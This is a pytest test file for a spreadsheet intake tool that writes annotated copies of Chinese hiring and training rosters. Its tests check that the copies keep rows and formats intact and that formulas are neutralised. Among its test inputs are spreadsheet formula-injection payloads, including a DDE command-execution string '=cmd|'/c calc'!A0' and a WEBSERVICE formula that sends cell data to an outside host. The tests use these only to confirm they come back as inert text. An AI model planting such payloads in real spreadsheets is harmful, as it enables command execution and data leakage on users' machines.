"""The user's own workbook back: the same rows in the same places, three columns, comments, nothing that runs."""

from __future__ import annotations

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.formula import ArrayFormula

from kapok.intake import read_folder

from .conftest import LI, ZHANG, csv_text, hire, workbook
from .test_content import changed


def annotated(tmp_path, vocabulary, out="out"):
    intake = read_folder(tmp_path / "in", vocabulary)
    return intake.write_annotated(tmp_path / out)


@pytest.fixture
def folder(tmp_path):
    (tmp_path / "in").mkdir()
    return tmp_path / "in"


def test_rows_keep_their_numbers_and_say_what_happened(folder, tmp_path, vocabulary):
    path = workbook(
        folder / "花名册.xlsx",
        "hiring_roster",
        [hire(), hire(id_no="12"), hire(name="李四", id_no=LI, wage="许多")],
        tail=[["合计", "", ""]],
    )
    before = openpyxl.load_workbook(path).active
    [copy] = annotated(tmp_path, vocabulary)
    sheet = openpyxl.load_workbook(copy).active
    for row in before.iter_rows():
        for cell in row:
            assert (sheet[cell.coordinate].value or "") == (cell.value or "")
    first = before.max_column + 1
    assert [sheet.cell(3, first + n).value for n in range(3)] == ["处理结果", "问题", "怎么改"]
    assert [sheet.cell(r, first).value for r in range(4, 8)] == [
        "可以导入",
        "不能导入",
        "部分导入",
        "已跳过",
    ]
    assert "身份证号：12 有 2 位" in sheet.cell(5, first + 1).value
    assert "12 有 2 位" in sheet["C5"].comment.text
    assert sheet.cell(6, first + 2).value == "只填数字，单位是元"


def test_formats_widths_and_merged_cells_stay(folder, tmp_path, vocabulary):
    path = workbook(folder / "花名册.xlsx", "hiring_roster", [hire(id_no="12")])
    book = openpyxl.load_workbook(path)
    book.active.column_dimensions["C"].width = 33
    book.active["B4"].font = openpyxl.styles.Font(name="仿宋", bold=True)
    book.active.merge_cells("A1:F1")
    book.save(path)
    [copy] = annotated(tmp_path, vocabulary)
    sheet = openpyxl.load_workbook(copy).active
    assert sheet.column_dimensions["C"].width == 33
    assert sheet["B4"].font.name == "仿宋"
    assert "A1:F1" in [str(span) for span in sheet.merged_cells.ranges]


def test_csv_comes_back_as_a_workbook_with_the_same_line_numbers(folder, tmp_path, vocabulary):
    text = csv_text(
        "training_allowance",
        [
            {"course": "P1", "name": "张三", "id_no": ZHANG, "days": 3},
            {"course": "P1", "name": "李四", "id_no": "12", "days": 3},
        ],
    )
    (folder / "学员花名册.csv").write_bytes(text.encode("gb18030"))
    [copy] = annotated(tmp_path, vocabulary)
    sheet = openpyxl.load_workbook(copy).active
    assert sheet["D2"].value == ZHANG
    assert [sheet.cell(r, sheet.max_column - 2).value for r in (1, 2, 3)] == [
        "处理结果",
        "请看一眼",
        "不能导入",
    ]


@pytest.mark.parametrize("evil", ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_nothing_that_begins_like_a_formula_runs(evil, folder, tmp_path, vocabulary):
    workbook(folder / "花名册.xlsx", "hiring_roster", [hire(job=evil, wage=evil)])
    rows = [
        ["序号", "班次编号", "姓名", "身份证号", "实训天数", "工种"],
        ["1", "P1", "张三", ZHANG, evil, evil],
    ]
    (folder / "学员花名册.csv").write_text(
        "\n".join(",".join(f'"{c.replace(chr(34), chr(34) * 2)}"' for c in row) for row in rows),
        "utf-8",
    )
    for copy in annotated(tmp_path, vocabulary):
        for row in openpyxl.load_workbook(copy).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and cell.value.startswith(
                    ("=", "+", "-", "@", "\t")
                ):
                    assert cell.quotePrefix


OUTSIDE = [
    "='[x.xlsx]A'!A1",
    "=[1]Sheet1!A1",
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("http://example.invalid/"&A1)',
    '=HYPERLINK("http://example.invalid")',
    '=INDIRECT("[x.xlsx]A!A1")',
    '=IMPORTXML("x","y")',
]
INSIDE = ["=SUM(Q4:Q5)", '=IF(A1>1,"a|b","c")', "=Sheet1!A1*2"]


def test_formulas_that_reach_outside_become_text_and_others_stay(folder, tmp_path, vocabulary):
    path = workbook(folder / "花名册.xlsx", "hiring_roster", [hire(id_no="12")])
    book = openpyxl.load_workbook(path)
    other = book.create_sheet("别的")
    other.sheet_state = "hidden"
    for n, formula in enumerate([*OUTSIDE, *INSIDE], 1):
        other.cell(n, 1, formula)
    book.defined_names["远处"] = DefinedName("远处", attr_text="'[x.xlsx]A'!$A$1")
    book.defined_names["近处"] = DefinedName("近处", attr_text="别的!$A$1")
    book.save(path)
    [copy] = annotated(tmp_path, vocabulary)
    back = openpyxl.load_workbook(copy)
    cells = [back["别的"].cell(n, 1) for n in range(1, len(OUTSIDE) + len(INSIDE) + 1)]
    assert [cell.value for cell in cells] == [*OUTSIDE, *INSIDE]
    assert [cell.data_type for cell in cells] == ["s"] * len(OUTSIDE) + ["f"] * len(INSIDE)
    assert all(cell.quotePrefix for cell in cells[: len(OUTSIDE)])
    assert list(back.defined_names) == ["近处"]


def test_an_array_formula_that_reaches_outside_becomes_text(folder, tmp_path, vocabulary):
    path = workbook(folder / "花名册.xlsx", "hiring_roster", [hire(id_no="12")])
    book = openpyxl.load_workbook(path)
    book.active["V4"] = ArrayFormula("V4", "=SUM([x.xlsx]A!A1:A3)")
    book.save(path)
    [copy] = annotated(tmp_path, vocabulary)
    cell = openpyxl.load_workbook(copy).active["V4"]
    assert (cell.data_type, cell.value) == ("s", "=SUM([x.xlsx]A!A1:A3)")


def test_the_copy_speaks_english_and_can_be_read_again(folder, tmp_path, vocabulary):
    workbook(folder / "花名册.xlsx", "hiring_roster", [hire(), hire(id_no="12")])
    (folder / "学员花名册.csv").write_text(
        csv_text(
            "training_allowance", [{"course": "P1", "name": "张三", "id_no": "12", "days": 3}]
        ),
        "utf-8",
    )
    intake = read_folder(folder, vocabulary)
    copies = intake.write_annotated(tmp_path / "out", "en")
    assert [copy.name for copy in copies] == ["学员花名册 (result).xlsx", "花名册 (result).xlsx"]
    for copy, row in zip(copies, (2, 5), strict=True):
        sheet = openpyxl.load_workbook(copy).active
        first = sheet.max_column - 2
        assert sheet.cell(row, first).value == "not taken"
        assert "12 has the length 2 instead of 18" in sheet.cell(row, first + 1).value
        assert sheet.cell(row, first + 2).value == "Complete it from the ID card"
    again = read_folder(tmp_path / "out", vocabulary)
    assert "column_unknown" not in again.kinds()


def test_the_corrected_copy_can_be_read_again(folder, tmp_path, vocabulary):
    workbook(folder / "花名册.xlsx", "hiring_roster", [hire(), hire(name="李四", id_no="12")])
    [copy] = annotated(tmp_path, vocabulary)
    book = openpyxl.load_workbook(copy)
    book.active["C5"] = LI
    again = tmp_path / "again"
    again.mkdir()
    book.save(again / "花名册.xlsx")
    intake = read_folder(again, vocabulary)
    assert intake.ok
    assert "column_unknown" not in intake.kinds()
    assert intake.tables["employment"].num_rows == 2
    assert intake.write_annotated(tmp_path / "third") or True


def test_files_without_anything_to_say_are_left_alone(folder, tmp_path, vocabulary):
    rows = [
        {
            "number": "P1",
            "provider": "",
            "start": "2023-01-01",
            "finish": "2023-01-09",
            "registered": "是",
        }
    ]
    text = csv_text("training_classes", rows)
    (folder / "开班备案.csv").write_text(text, "utf-8")
    assert annotated(tmp_path, vocabulary) == []


def test_a_name_is_never_used_twice(folder, tmp_path, vocabulary):
    workbook(folder / "花名册.xlsx", "hiring_roster", [hire(id_no="12")])
    names = [annotated(tmp_path, vocabulary)[0].name for _ in range(2)]
    assert names == ["花名册（处理结果）.xlsx", "花名册（处理结果2）.xlsx"]


def test_two_sheets_never_get_the_same_name_in_a_new_workbook(folder, tmp_path, vocabulary):
    """One whose name no program takes gets a number, and counts on where another sheet is called so."""
    path = workbook(folder / "花名册.xlsx", "hiring_roster", [hire(id_no="12")])
    book = openpyxl.load_workbook(path)
    book.active.title = "SHEET2"
    for title in ("none", "Sheet3"):
        book.copy_worksheet(book.active).title = title
    book.save(path)
    changed(path, "xl/workbook.xml", lambda xml: xml.replace(b'name="none"', b'name="//"'))
    intake = read_folder(folder, vocabulary)
    [copy] = intake.write_annotated(tmp_path / "out", "en")
    assert openpyxl.load_workbook(copy).sheetnames == ["SHEET2", "Sheet4", "Sheet3"]
